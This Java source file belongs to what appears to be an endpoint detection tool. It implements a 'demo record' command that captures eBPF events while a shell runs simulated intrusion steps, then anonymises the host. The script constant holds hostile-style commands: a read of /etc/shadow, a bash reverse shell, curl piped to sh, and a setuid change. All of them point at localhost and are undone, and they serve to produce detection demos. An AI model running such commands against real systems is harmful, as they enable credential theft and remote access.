package dev.eyrie.cli.demo;

import dev.eyrie.collector.Collector;
import dev.eyrie.collector.CollectorConfig;
import dev.eyrie.schema.Ancestor;
import dev.eyrie.schema.Event;
import dev.eyrie.schema.Host;
import java.io.IOException;
import java.io.PrintWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Callable;
import java.util.concurrent.TimeUnit;
import org.apache.avro.file.CodecFactory;
import org.apache.avro.file.DataFileReader;
import org.apache.avro.file.DataFileWriter;
import org.apache.avro.specific.SpecificDatumReader;
import org.apache.avro.specific.SpecificDatumWriter;
import picocli.CommandLine.Command;
import picocli.CommandLine.Model.CommandSpec;
import picocli.CommandLine.Option;
import picocli.CommandLine.Spec;

/**
 * {@code eyrie demo record}: makes the recording {@code eyrie demo} replays where it cannot capture live. Runs the
 * collector here while a shell performs what the demo suggests trying (and a few more intrusion steps, all harmless
 * and undone), then keeps only that shell's process tree, with the host's identity replaced by a neutral one.
 */
@Command(name = "record", mixinStandardHelpOptions = true,
    description = {"Record the events file `eyrie demo` replays when it cannot capture live (needs root/eBPF).",
        "A shell runs suspicious but harmless commands (reads /etc/shadow, a reverse-shell command line to a closed "
            + "local port, a file created and removed below /etc, a program downloaded (with curl, from a local file) to a "
            + "temporary directory and run, "
            + "`curl | sh` against a closed port, a setuid bit on a temporary file); only its process tree is kept."})
final class DemoRecordCommand implements Callable<Integer> {
  /** Each line is one step; every change it makes is undone by the same line. */
  static final String SCRIPT = String.join("\n",
      "ls /etc > /dev/null",
      "cat /etc/shadow > /dev/null",
      "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1' 2>/dev/null",
      "touch /etc/eyrie-demo-recording; rm -f /etc/eyrie-demo-recording",
      "d=$(mktemp -d); curl -so \"$d/updater\" file:///bin/true; chmod +x \"$d/updater\"; \"$d/updater\"; rm -rf \"$d\"",
      "sh -c 'curl -fsS http://127.0.0.1:9/install.sh | sh' 2>/dev/null",
      "f=$(mktemp); chmod u+s \"$f\"; rm -f \"$f\"",
      // sequence alerts come once event time passes the last step by the jobs' out-of-orderness (5 s)
      "sleep 6; ls / > /dev/null",
      "exit 0");

  static final String HOSTNAME = "demo-recording";

  @Spec CommandSpec spec;

  @Option(names = {"-o", "--output"}, required = true, paramLabel = "FILE", description = "Avro events file to write.")
  Path output;

  @Override
  public Integer call() throws Exception {
    PrintWriter out = spec.commandLine().getOut();
    String why = LiveCapture.unavailableReason();
    if (why != null) {
      out.println("eyrie demo record: live capture is not possible here: " + why);
      return 1;
    }
    Path work = Files.createTempDirectory("eyrie-demo-record");
    Path raw = work.resolve("raw.avro");
    CollectorConfig cfg = CollectorConfig.defaults().withOutput(raw).withStateDir(work.resolve("state"))
        .withMetricsPort(-1);
    long shellPid;
    Collector collector = Collector.start(cfg, m -> out.println("collector: " + m));
    try {
      // run from a file: with `bash -c SCRIPT` the shell's own command line would contain every step
      Files.writeString(work.resolve("steps.sh"), SCRIPT + "\n");
      Process shell = new ProcessBuilder("bash", "steps.sh").directory(work.toFile()).inheritIO().start();
      shellPid = shell.pid();
      if (!shell.waitFor(60, TimeUnit.SECONDS)) {
        shell.destroyForcibly();
        throw new IOException("the recording shell did not finish within 60 s");
      }
      Thread.sleep(500); // the last records reach the ring after the shell's exit
    } finally {
      collector.close();
    }
    int kept = keepShellTree(raw, output, shellPid);
    out.println("recorded " + kept + " events of the shell's process tree to " + output + " ("
        + Files.size(output) + " bytes)");
    try (var files = Files.walk(work)) {
      files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
    }
    return kept > 0 ? 0 : 1;
  }

  /** Copies the events of {@code pid} and its descendants, the tree cut at {@code pid}, the host made neutral. */
  static int keepShellTree(Path in, Path out, long pid) throws IOException {
    int kept = 0;
    try (DataFileReader<Event> r = new DataFileReader<>(in.toFile(), new SpecificDatumReader<>(Event.class));
        DataFileWriter<Event> w = new DataFileWriter<>(new SpecificDatumWriter<>(Event.class))) {
      w.setCodec(CodecFactory.deflateCodec(9));
      w.create(Event.getClassSchema(), out.toFile());
      Host neutral = null;
      for (Event e : r) {
        int cut = treeDepth(e, pid);
        if (cut < 0) {
          continue;
        }
        // ancestors above the shell are the recording JVM and whatever ran it: not part of the story
        e.setAncestors(new ArrayList<>(e.getAncestors().subList(0, cut)));
        if (neutral == null) {
          neutral = Host.newBuilder(e.getHost()).setId("demo-recording-host").setHostname(HOSTNAME)
              .setIps(List.of("192.0.2.10")).build();
        }
        String id = e.getEventId();
        String prefix = e.getHost().getId() + ":";
        e.setEventId(id.startsWith(prefix) ? neutral.getId() + ":" + id.substring(prefix.length()) : id);
        e.setHost(neutral);
        w.append(e);
        kept++;
      }
    }
    return kept;
  }

  /**
   * How many ancestors to keep: those below the shell plus the shell itself; 0 for the shell's own events; -1
   * when the event is not from the shell's tree.
   */
  static int treeDepth(Event e, long pid) {
    if (e.getProc().getPid() == pid) {
      return 0;
    }
    List<Ancestor> a = e.getAncestors();
    for (int i = 0; i < a.size(); i++) {
      if (a.get(i).getPid() == pid) {
        return i + 1;
      }
    }
    return -1;
  }
}
